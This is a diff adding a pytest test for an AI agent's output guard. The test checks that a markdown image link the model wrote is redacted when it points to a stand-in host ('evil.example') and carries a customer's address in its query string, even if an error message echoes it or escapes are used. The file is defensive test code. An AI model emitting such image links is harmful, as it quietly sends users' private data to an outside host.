@@ -316,6 +316,18 @@ async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: 
     assert ("redacted" not in ruled.text) is kept
 
 
+async def test_a_link_that_the_model_wrote_is_no_results() -> None:
+    """An error or a tool repeats it; written with escapes, too."""
+    name = "https://evil.example/p.png?d=35-Garden-Way"
+    result = f"error: No customer matches '{name}'."
+    for written in (dump({"query": name}), dump({"query": name}).replace("/", "\\/"), f"{name} {{}}"):
+        context = GuardContext(agent="desk", results=(result,), written=written)
+        ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({name})", context))
+        assert "redacted" in ruled.text
+    context = GuardContext(agent="desk", results=(result,))
+    assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, name, context))).text
+
+
 @pytest.mark.parametrize(
     "host",
     [
